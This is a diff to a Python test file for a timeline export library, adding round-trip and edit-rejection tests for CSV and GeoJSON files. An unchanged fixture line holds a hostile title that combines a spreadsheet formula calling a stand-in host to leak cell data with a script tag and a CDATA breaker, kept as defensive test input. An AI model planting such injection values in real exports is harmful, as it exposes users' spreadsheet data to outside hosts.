@@ -18,7 +18,7 @@ import pytest
 
 from gazetteer.index import Gazetteer, default_gazetteer
 from gazetteer.model import Place, PlaceKind
-from timeline.errors import OutputError
+from timeline.errors import InputError, OutputError
 from timeline.exports import (
     EXPORT_FORMATS,
     export_text,
@@ -44,7 +44,8 @@ from timeline.model import (
     Source,
     Timeline,
 )
-from timeline.readers import FORMULA_TRIGGERS, neutralise_formula, restore_formula
+from timeline.readers import FORMULA_TRIGGERS, neutralise_formula, read_table, restore_formula
+from timeline.table import events_from_table
 
 KML = "{http://www.opengis.net/kml/2.2}"
 HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"click") <script>alert(1)</script> ]]>'
@@ -348,3 +349,98 @@ def test_export_timeline_writes_every_format_atomically(tmp_path: Path, sample: 
     with pytest.raises(OutputError):
         export_timeline(sample, tmp_path / "missing" / "x.csv")
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left
+
+
+# --- Round trips of the sample, and edits made between export and import -------------------------
+
+def _read_back(path: Path, gazetteer: Gazetteer) -> tuple[Event, ...]:
+    return tuple(events_from_table(read_table(path), gazetteer=gazetteer))
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".geojson"])
+def test_round_trip_gives_the_same_events(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer,
+                                          suffix: str) -> None:
+    path = export_timeline(sample, tmp_path / f"sample{suffix}")
+    back = _read_back(path, gazetteer)
+    for original, read in zip(sample.events, back, strict=True):
+        assert read == original, original.id
+
+
+def test_a_geojson_file_named_json_reads_too(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
+    path = export_timeline(sample, tmp_path / "sample.json", format="geojson")
+    assert _read_back(path, gazetteer) == sample.events
+
+
+def _edit_csv(path: Path, event_id: str, **cells: str) -> None:
+    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
+    for row in rows:
+        if row["event_id"] == event_id:
+            row.update(cells)
+    out = io.StringIO(newline="")
+    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
+    writer.writeheader()
+    writer.writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8")
+
+
+def test_csv_edit_of_a_plain_column_alone_is_refused(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
+    path = export_timeline(sample, tmp_path / "t.csv")
+    _edit_csv(path, "ev-riyadh", location="Jeddah")
+    with pytest.raises(InputError, match=r"t\.csv:\d+: column 'location': 'Jeddah' disagrees with place 'Riyadh'"):
+        read_table(path)
+    _edit_csv(path, "ev-riyadh", actor1="Someone Else", location="Riyadh")
+    with pytest.raises(InputError, match="column 'actor1'"):
+        read_table(path)
+
+
+def test_csv_without_detail_cells_falls_back_to_the_plain_columns(tmp_path: Path, sample: Timeline,
+                                                                   gazetteer: Gazetteer) -> None:
+    path = export_timeline(sample, tmp_path / "t.csv")
+    _edit_csv(path, "ev-riyadh", location="Jeddah", latitude="", longitude="", geonameid="", place_details="",
+              actor_details="", actor1="Marco Rubio", actor2="")
+    event = next(e for e in _read_back(path, gazetteer) if e.id == "ev-riyadh")
+    # Jeddah, in the country of the country_code column
+    assert [(ep.place.geonameid, ep.role) for ep in event.places] == [(105343, PlaceRole.SITE),
+                                                                      (102358, PlaceRole.MENTIONED)]
+    assert [a.name for a in event.actors] == ["Marco Rubio"]
+    assert event.interval == Interval.day(dt.date(2025, 2, 18)) and event.title == "US-Russia talks in Riyadh"
+
+
+def _edit_geojson(path: Path, feature_id: str, change) -> None:  # type: ignore[no-untyped-def]
+    data = json.loads(path.read_text(encoding="utf-8"))
+    for feature in data["features"]:
+        if feature["id"] == feature_id:
+            change(feature)
+    path.write_text(json.dumps(data), encoding="utf-8")
+
+
+def test_geojson_moved_geonames_point_is_refused_unless_unlinked(tmp_path: Path, sample: Timeline,
+                                                                 gazetteer: Gazetteer) -> None:
+    path = export_timeline(sample, tmp_path / "t.geojson")
+
+    def move(feature: dict) -> None:  # type: ignore[type-arg]
+        feature["geometry"]["coordinates"] = [46.8, 24.6]
+
+    _edit_geojson(path, "ev-riyadh#0", move)
+    message = r"t\.geojson:\d+: place 0 \('Riyadh'\) is at 24\.6, 46\.8, but GeoNames 108410"
+    with pytest.raises(InputError, match=message):
+        _read_back(path, gazetteer)
+
+    def unlink(feature: dict) -> None:  # type: ignore[type-arg]
+        feature["properties"]["geonameid"] = None
+
+    _edit_geojson(path, "ev-riyadh#0", unlink)
+    event = next(e for e in _read_back(path, gazetteer) if e.id == "ev-riyadh")
+    moved = event.places[0].place
+    assert (moved.geonameid, moved.name, moved.lat, moved.lon, moved.country_code) == (None, "Riyadh", 24.6, 46.8, "SA")
+
+
+def test_geojson_features_of_one_event_must_agree(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
+    path = export_timeline(sample, tmp_path / "t.geojson")
+
+    def retitle(feature: dict) -> None:  # type: ignore[type-arg]
+        feature["properties"]["title"] = "Other"
+
+    _edit_geojson(path, "ev-riyadh#1", retitle)
+    with pytest.raises(InputError, match=r"event 'ev-riyadh': property 'title' differs from feature"):
+        read_table(path)
